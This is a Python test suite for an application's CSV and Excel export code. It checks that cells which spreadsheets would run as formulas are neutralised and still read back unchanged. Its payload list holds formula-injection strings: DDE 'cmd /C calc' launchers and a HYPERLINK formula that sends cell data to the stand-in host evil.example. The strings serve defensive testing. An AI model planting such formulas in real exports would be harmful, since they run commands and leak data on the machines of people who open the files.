"""Text that spreadsheets would run is neutralised in every export and comes back unchanged."""

import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.platform.tabular.injection import is_dangerous, neutralise, restore
from app.platform.tabular.reader import open_table
from app.platform.tabular.writers import write_csv, write_workbook

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '=DDE("cmd";"/C calc";"x")',
    "\n=1+1",
    " =1+1",
    "\ufeff=1+1",
    "'=1+1",
    "''=1+1",
]


@given(st.text(max_size=20) | st.sampled_from(PAYLOADS))
def test_restore_undoes_neutralise(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not is_dangerous(neutralise(text)) or neutralise(text).startswith("'")


@pytest.mark.parametrize("text", ["普通文字", "'引号开头", "3-5 个工作日", "a=b", "", "’"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_export_starts_no_cell_with_a_trigger(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "out.csv"
    write_csv(path, ["甲", "乙"], [[payload, 5]], bom=True)
    with path.open(encoding="utf-8-sig", newline="") as stream:
        text = stream.read()
    assert text.split("\r\n", 1)[1].lstrip('"').startswith("'")
    with open_table(path, filename="out.csv") as table:
        rows = list(table.rows)
    assert rows[1].cells == (payload, "5")


def test_excel_export_has_no_formula_and_comes_back_unchanged(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    count = write_workbook(path, ["甲", "乙"], [[payload, 7] for payload in PAYLOADS])
    assert count == len(PAYLOADS)
    cells = [cell for row in openpyxl.load_workbook(path).worksheets[0] for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    with open_table(path, filename="out.xlsx") as table:
        texts = [row.cells[0] for row in table.rows][1:]
    # XML folds a bare CR, and the workbook keeps it as such; nothing else may change.
    assert [t.replace("\r", "\n") for t in texts] == [p.replace("\r", "\n") for p in PAYLOADS]


def test_excel_export_survives_control_characters_and_rare_surnames(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    write_workbook(path, ["名"], [["𠮷\x01田\x00\uffff"], [None]])
    with open_table(path, filename="out.xlsx") as table:
        assert [row.cells for row in table.rows] == [("名",), ("𠮷田",)]


def test_an_empty_export_has_its_header(tmp_path: Path) -> None:
    path = tmp_path / "out.xlsx"
    assert write_workbook(path, ["甲", "乙"], []) == 0
    with open_table(path, filename="out.xlsx") as table:
        assert [row.cells for row in table.rows] == [("甲", "乙")]
